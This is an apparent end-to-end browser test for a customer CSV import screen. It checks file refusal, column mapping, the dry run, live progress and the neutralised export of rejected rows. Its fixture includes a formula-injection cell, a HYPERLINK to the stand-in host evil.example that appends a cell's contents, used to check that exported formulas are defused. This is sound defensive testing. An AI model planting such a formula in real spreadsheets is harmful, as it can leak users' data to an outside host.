import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { sql } from '../../services/store/sql';
import { seriousA11yViolations } from '../support/axe';
import { ensureRendererBuilt, launchChromium, screenshotPath } from '../support/browser';
import { chatEvent, seed, startTestHub, type TestHub } from '../support/testHub';

/*
 * The customer import screen in Debian chromium against a real hub: a file that is not CSV and one that
 * is not UTF-8 are refused (dropped on the drop zone), a real file is chosen with the picker, its columns
 * are guessed and one is corrected, the dry run writes nothing, the import's progress arrives by push, and
 * the rejected rows download as a CSV with formula cells neutralised.
 */
let t: TestHub;
let browser: Browser;
let sue: Page;
const pageErrors: string[] = [];

const GOOD_ROWS = 6000;
function customerCsv(): string {
  const lines = ['Full Name,E-mail,Mobile,CRM ID,Tier,Remarks'];
  lines.push('Walk-in Wanda,walkin@example.com,,,gold,came to the store'); // matches a customer the hub already has
  lines.push('"=HYPERLINK(""http://evil.example/?""&A1;""click"")",,,,,'); // no identity: rejected, formula kept only neutralised
  lines.push('Bad Mail,not-an-email,,C-x,,'); // bad email
  lines.push('Short Row,short@example.com'); // wrong number of columns
  lines.push('@SUM(1+1),,+1 (555) 0100,,,'); // bad phone, formula-looking name
  for (let i = 1; i <= GOOD_ROWS; i += 1) lines.push(`Person ${i},p${i}@example.com,,C${i},silver,`);
  return `${lines.join('\n')}\n`;
}

async function dropFile(page: Page, name: string, bytes: readonly number[], type: string): Promise<void> {
  await page.getByTestId('import-drop-zone').evaluate(
    (zone, file) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(file.bytes)], file.name, { type: file.type }));
      zone.dispatchEvent(new DragEvent('dragover', { bubbles: true, cancelable: true, dataTransfer: dt }));
      zone.dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer: dt }));
    },
    { name, bytes: [...bytes], type },
  );
}

beforeAll(async () => {
  const rendererDir = await ensureRendererBuilt();
  t = await startTestHub({ rendererDir });
  await seed(t, [{ username: 'sue', role: 'supervisor' }]);
  const admin = await t.admin();
  await admin.ok('customer/attributeDefine', { key: 'tier', label: 'Tier', type: 'choice', choices: ['gold', 'silver'] });
  await t.hub.center.ingest(chatEvent({ channel: 'email', from: { kind: 'email', value: 'walkin@example.com' } }));
  browser = await launchChromium();
  const context = await browser.newContext({ viewport: { width: 1440, height: 1000 }, acceptDownloads: true });
  sue = await context.newPage();
  sue.setDefaultTimeout(15_000);
  sue.on('pageerror', (error) => pageErrors.push(error.message));
}, 240_000);

afterAll(async () => {
  await browser?.close();
  await t?.stop();
});

describe('customer import screen in chromium', () => {
  it('opens from the supervisor console and states the size limit', async () => {
    await sue.goto(t.hub.url);
    await sue.getByLabel('Username').fill('sue');
    await sue.getByLabel('Password').fill('sue-password');
    await sue.getByRole('button', { name: 'Sign in' }).click();
    await sue.getByRole('heading', { name: 'Supervisor console' }).waitFor();
    await sue.getByRole('button', { name: 'Import customers' }).click();
    await sue.getByRole('heading', { name: 'Import customers' }).waitFor();
    await sue.getByText('up to 64 MB').waitFor();
    expect(await seriousA11yViolations(sue)).toEqual([]);
    await sue.screenshot({ path: screenshotPath('import-01-choose'), animations: 'disabled' });
  });

  it('refuses a dropped file that is not CSV, and one that is not UTF-8', async () => {
    await dropFile(sue, 'photo.png', [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 'image/png');
    await sue.getByRole('alert').getByText('“photo.png” is not a CSV file').waitFor();
    await dropFile(sue, 'legacy.csv', [...Buffer.from('Name,Email\nJos\xe9,jose@example.com\n', 'latin1')], 'text/csv');
    await sue
      .getByRole('alert')
      .getByText(/not UTF-8 text; in your spreadsheet save it as "CSV UTF-8"/)
      .waitFor();
    expect(await seriousA11yViolations(sue)).toEqual([]);
    await sue.screenshot({ path: screenshotPath('import-02-refused'), animations: 'disabled' });
  });

  it('guesses the mapping from the headers, previews the first rows, and takes a correction', async () => {
    await sue
      .locator('input[type=file]')
      .setInputFiles({ name: 'legacy-crm.csv', mimeType: 'text/csv', buffer: Buffer.from(customerCsv()) });
    const mapping = sue.getByRole('table', { name: 'Column mapping' });
    await mapping.waitFor();
    await expect(sue.getByLabel('Full Name goes to').inputValue()).resolves.toBe('displayName');
    await expect(sue.getByLabel('E-mail goes to').inputValue()).resolves.toBe('email');
    await expect(sue.getByLabel('Mobile goes to').inputValue()).resolves.toBe('phone');
    await expect(sue.getByLabel('CRM ID goes to').inputValue()).resolves.toBe('external');
    await expect(sue.getByLabel('System the IDs in CRM ID come from').inputValue()).resolves.toBe('crm');
    await expect(sue.getByLabel('Tier goes to').inputValue()).resolves.toBe('attribute:tier');
    await expect(sue.getByLabel('Remarks goes to').inputValue()).resolves.toBe('note');
    // The preview flags the short row before anything runs.
    await sue.getByText('2 of 6 columns: will be rejected').waitFor();
    // Skipping every identity column is caught on screen.
    await sue.getByLabel('E-mail goes to').selectOption('ignore');
    await sue.getByLabel('Mobile goes to').selectOption('ignore');
    await sue.getByLabel('CRM ID goes to').selectOption('ignore');
    await sue
      .getByRole('alert')
      .getByText(/at least one column with an email, phone or external ID/)
      .waitFor();
    expect(await sue.getByRole('button', { name: 'Check the file (dry run)' }).isDisabled()).toBe(true);
    await sue.getByLabel('E-mail goes to').selectOption('email');
    await sue.getByLabel('Mobile goes to').selectOption('phone');
    await sue.getByLabel('CRM ID goes to').selectOption('external');
    await sue.getByLabel('System the IDs in CRM ID come from').fill('legacy-crm');
    await sue.getByLabel('Tag every imported customer (optional)').fill('legacy');
    expect(await seriousA11yViolations(sue)).toEqual([]);
    await sue.screenshot({ path: screenshotPath('import-03-mapping'), animations: 'disabled', fullPage: true });
  });

  it('dry-runs: reports new, matched and rejected rows with reasons and writes nothing', async () => {
    const before = await t.hub.store.get<{ n: number }>(sql`SELECT count(*) AS n FROM customer`);
    await sue.getByRole('button', { name: 'Check the file (dry run)' }).click();
    await sue.getByRole('heading', { name: 'Dry run: what the import would do' }).waitFor();
    const figures = sue.locator('.imp-figures');
    await figures.getByText('New customers').waitFor({ timeout: 60_000 });
    await expect(figures.textContent()).resolves.toContain(`New customers${GOOD_ROWS.toLocaleString('en-US')}`);
    await expect(figures.textContent()).resolves.toContain('Would update a customer1');
    await expect(figures.textContent()).resolves.toContain('Rejected4');
    const rejected = sue.getByRole('table', { name: 'Rejected rows' });
    await rejected.getByText('no phone, email or external id').waitFor();
    await rejected.getByText('expected 6 columns, found 2').waitFor();
    await rejected.getByText(/E-mail: /).waitFor();
    expect((await t.hub.store.get<{ n: number }>(sql`SELECT count(*) AS n FROM customer`))?.n).toBe(before?.n);
    expect(await seriousA11yViolations(sue)).toEqual([]);
    await sue.screenshot({ path: screenshotPath('import-04-dry-run'), animations: 'disabled', fullPage: true });
  });

  it('imports with live progress from the pushed events and reports the result', async () => {
    // Every value the progress bar shows, recorded in the page as it changes.
    await sue.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { progressSeen: string[] }).progressSeen = seen;
      new MutationObserver(() => {
        const bar = document.querySelector('[role=progressbar][aria-label="Import progress"]');
        const v = bar?.getAttribute('aria-valuenow');
        if (v && seen[seen.length - 1] !== v) seen.push(v);
      }).observe(document.body, { subtree: true, childList: true, attributes: true });
    });
    await sue.getByRole('button', { name: `Import ${(GOOD_ROWS + 1).toLocaleString('en-US')} rows` }).click();
    await sue.getByRole('heading', { name: 'Import finished' }).waitFor({ timeout: 90_000 });
    const seen = await sue.evaluate(() => (window as unknown as { progressSeen: string[] }).progressSeen);
    expect(seen.at(-1)).toBe('100');
    expect(seen.some((v) => Number(v) > 0 && Number(v) < 100)).toBe(true);
    await expect(sue.locator('.imp-figures').textContent()).resolves.toContain(`Created${GOOD_ROWS.toLocaleString('en-US')}`);
    const hit = await (await t.admin()).ok('customer/search', { query: 'p42@example.com' });
    expect(hit.hits[0]?.identities.map((i) => i.value)).toContain('legacy-crm:C42');
    expect(await seriousA11yViolations(sue)).toEqual([]);
    await sue.screenshot({ path: screenshotPath('import-05-done'), animations: 'disabled', fullPage: true });
    // A look at the live board does not lose the report.
    await sue.getByRole('button', { name: 'Queues and agents' }).click();
    await sue.getByRole('table', { name: 'Queue board' }).waitFor();
    await sue.getByRole('button', { name: 'Import customers' }).click();
    await sue.getByRole('heading', { name: 'Import finished' }).waitFor();
  });

  it('downloads the rejected rows with their original values, formulas neutralised', async () => {
    const [download] = await Promise.all([
      sue.waitForEvent('download'),
      sue.getByRole('button', { name: 'Download rejected rows (CSV)' }).click(),
    ]);
    expect(download.suggestedFilename()).toBe('legacy-crm-rejected-rows.csv');
    const text = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '');
    const lines = text.trimEnd().split('\r\n');
    expect(lines[0]).toBe('Row,Reason,Full Name,E-mail,Mobile,CRM ID,Tier,Remarks');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toBe(`2,"no phone, email or external id","'=HYPERLINK(""http://evil.example/?""&A1;""click"")",,,,,`);
    expect(lines[3]).toBe('4,"expected 6 columns, found 2",Short Row,short@example.com');
    expect(lines[4]).toMatch(/^5,.*,'@SUM\(1\+1\),,'\+1 \(555\) 0100,,,$/);
    expect(text).not.toMatch(/(^|,)[=+@-]/m);
    expect(pageErrors).toEqual([]);
  });
});
